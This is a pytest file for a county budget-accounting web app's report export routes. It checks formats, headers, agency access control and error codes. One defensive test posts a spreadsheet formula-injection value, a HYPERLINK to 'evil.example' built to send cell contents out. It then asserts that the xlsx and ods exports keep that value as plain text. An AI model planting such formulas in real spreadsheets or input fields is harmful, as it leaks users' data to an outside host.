"""The report download routes through the real app: formats, headers, agency scope, errors."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest
from fastapi.testclient import TestClient
from odf.opendocument import load as load_ods
from odf.table import TableCell, TableRow

from tenant_app import auth
from tenant_app.app import create_app
from tenant_app.db import make_engine, session_scope
from tenant_app.reports import execution, ledger
from tenant_app.reports.reading import dispose_readers
from tenant_app.settings import Settings

from . import b_county


@pytest.fixture
def client(sqlite_url: str) -> Iterator[tuple[TestClient, b_county.County_, dict[str, str]]]:
    engine = make_engine(sqlite_url)
    ids = b_county.build(engine)
    b_county.populate(engine, ids)
    tokens = {}
    with session_scope(engine) as s:
        for who in ("chief", "other_chief"):
            tokens[who], _ = auth.issue_api_token(s, ids.users[who], actor="test")
    engine.dispose()
    auth.forget_cached_principals()
    app = create_app(Settings(database_url=sqlite_url, secret=b_county.SECRET, county_name="設定縣"))
    with TestClient(app) as test_client:
        yield test_client, ids, {k: f"Bearer {v}" for k, v in tokens.items()}
    dispose_readers()


def test_html_fragment_has_the_reports_numbers(
    client: tuple[TestClient, b_county.County_, dict[str, str]],
) -> None:
    http, ids, tokens = client
    response = http.get(
        "/api/v1/reports/execution",
        params={"year": 2026, "period": 3, "agency": ids.agency_id},
        headers={"Authorization": tokens["chief"]},
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/html")
    assert "Server-Timing" in response.headers
    page = response.text
    assert "基隆市 歲出預算執行表" in page  # the county's name comes from the database
    assert "民國115年度（2026）" in page and "第3期" in page
    assert 'data-value="730000">730,000</th>' in page  # spent: 130 000 + 600 000


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_downloads_are_attachments_that_read_back(
    client: tuple[TestClient, b_county.County_, dict[str, str]], fmt: str
) -> None:
    http, _ids, tokens = client
    response = http.get(
        "/api/v1/reports/execution",
        params={"year": 2026, "period": 3, "format": fmt},
        headers={"Authorization": tokens["chief"]},
    )
    assert response.status_code == 200
    assert response.headers["content-disposition"].startswith(
        f'attachment; filename="execution-2026-p03.{fmt}"'
    )
    spent = [c.key for c in execution.COLUMNS].index("spent")
    if fmt == "xlsx":
        ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert ws is not None
        totals = next(r for r in ws.iter_rows(values_only=True) if r[0] == "合計")
        assert totals[spent] == 730_000
    else:
        rows = load_ods(io.BytesIO(response.content)).spreadsheet.getElementsByType(TableRow)
        totals = next(r.getElementsByType(TableCell) for r in rows if str(r).startswith("合計"))
        assert int(totals[spent].getAttribute("value")) == 730_000


def test_other_agencies_are_refused_and_scope_defaults_to_granted(
    client: tuple[TestClient, b_county.County_, dict[str, str]],
) -> None:
    http, ids, tokens = client
    refused = http.get(
        "/api/v1/reports/execution",
        params={"year": 2026, "agency": ids.agency_id},
        headers={"Authorization": tokens["other_chief"]},
    )
    assert refused.status_code == 403
    # Without `agency`, the other agency's chief sees only their own agency: no lines, zero totals.
    own = http.get(
        "/api/v1/reports/execution", params={"year": 2026}, headers={"Authorization": tokens["other_chief"]}
    )
    assert own.status_code == 200
    assert not re.search(r'data-value="[1-9]\d*"', own.text)


def test_ledger_trial_balance_and_balance_sheet_routes(
    client: tuple[TestClient, b_county.County_, dict[str, str]],
) -> None:
    http, _, tokens = client
    for kind, title in (("ledger", "總分類帳"), ("trial-balance", "試算表"), ("balance-sheet", "平衡表")):
        response = http.get(
            f"/api/v1/reports/{kind}", params={"year": 2026}, headers={"Authorization": tokens["chief"]}
        )
        assert response.status_code == 200, response.text
        assert title in response.text


def test_unknown_year_and_missing_token(client: tuple[TestClient, b_county.County_, dict[str, str]]) -> None:
    http, _, tokens = client
    missing = http.get(
        "/api/v1/reports/execution", params={"year": 1999}, headers={"Authorization": tokens["chief"]}
    )
    assert missing.status_code == 404 and missing.json()["code"] == "unknown_fiscal_year"
    assert http.get("/api/v1/reports/execution", params={"year": 2026}).status_code == 401
    bad_period = http.get(
        "/api/v1/reports/execution",
        params={"year": 2026, "period": 14},
        headers={"Authorization": tokens["chief"]},
    )
    assert bad_period.status_code == 422


HYPERLINK = '=HYPERLINK("http://evil.example/x?d="&F10,"明細")'


def test_a_formula_in_a_journal_description_is_plain_text_in_the_ledger(db_url: str) -> None:
    """Issue 14, item 4: on SQLite and PostgreSQL, through the real routes."""
    engine = make_engine(db_url)
    ids = b_county.build(engine)
    with session_scope(engine) as s:
        token, _ = auth.issue_api_token(s, ids.users["chief"], actor="test")
    engine.dispose()
    auth.forget_cached_principals()
    app = create_app(Settings(database_url=db_url, secret=b_county.SECRET, county_name="設定縣"))
    headers = {"Authorization": f"Bearer {token}"}
    try:
        with TestClient(app) as http:
            posted = http.post("/api/v1/journal", headers=headers, json={
                "agency_id": ids.agency_id, "fiscal_year_id": ids.year_id, "period": 3,
                "description": HYPERLINK,
                "lines": [{"account_code": "5101", "debit": 4_321},
                          {"account_code": "1101", "credit": 4_321}]})
            assert posted.status_code == 201, posted.text
            params = {"year": 2026, "agency": ids.agency_id}
            url = "/api/v1/reports/ledger"
            xlsx_file = http.get(url, params={**params, "format": "xlsx"}, headers=headers)
            ods_file = http.get(url, params={**params, "format": "ods"}, headers=headers)
    finally:
        dispose_readers()
    assert xlsx_file.status_code == 200 and ods_file.status_code == 200
    description = [c.key for c in ledger.LEDGER_COLUMNS].index("description")
    debit = [c.key for c in ledger.LEDGER_COLUMNS].index("debit")

    ws = openpyxl.load_workbook(io.BytesIO(xlsx_file.content)).active
    assert ws is not None
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    hits = [row for row in ws.iter_rows() if row[description].value == HYPERLINK]
    assert len(hits) == 2  # the debit line and the credit line
    assert all(row[description].data_type == "s" for row in hits)
    debits = [(row[debit].value, row[debit].data_type) for row in hits if row[debit].value]
    assert debits == [(4_321, "n")]

    with zipfile.ZipFile(io.BytesIO(ods_file.content)) as zf:
        assert b"table:formula" not in zf.read("content.xml")
    rows = load_ods(io.BytesIO(ods_file.content)).spreadsheet.getElementsByType(TableRow)
    cells = [r.getElementsByType(TableCell) for r in rows]
    ods_hits = [c for c in cells if len(c) > description and str(c[description]) == HYPERLINK]
    assert len(ods_hits) == 2
    assert all(c[description].getAttribute("valuetype") == "string" for c in ods_hits)
    amounts = [c[debit] for c in ods_hits if c[debit].getAttribute("value")]
    assert [(int(a.getAttribute("value")), a.getAttribute("valuetype")) for a in amounts] == [
        (4_321, "float")
    ]
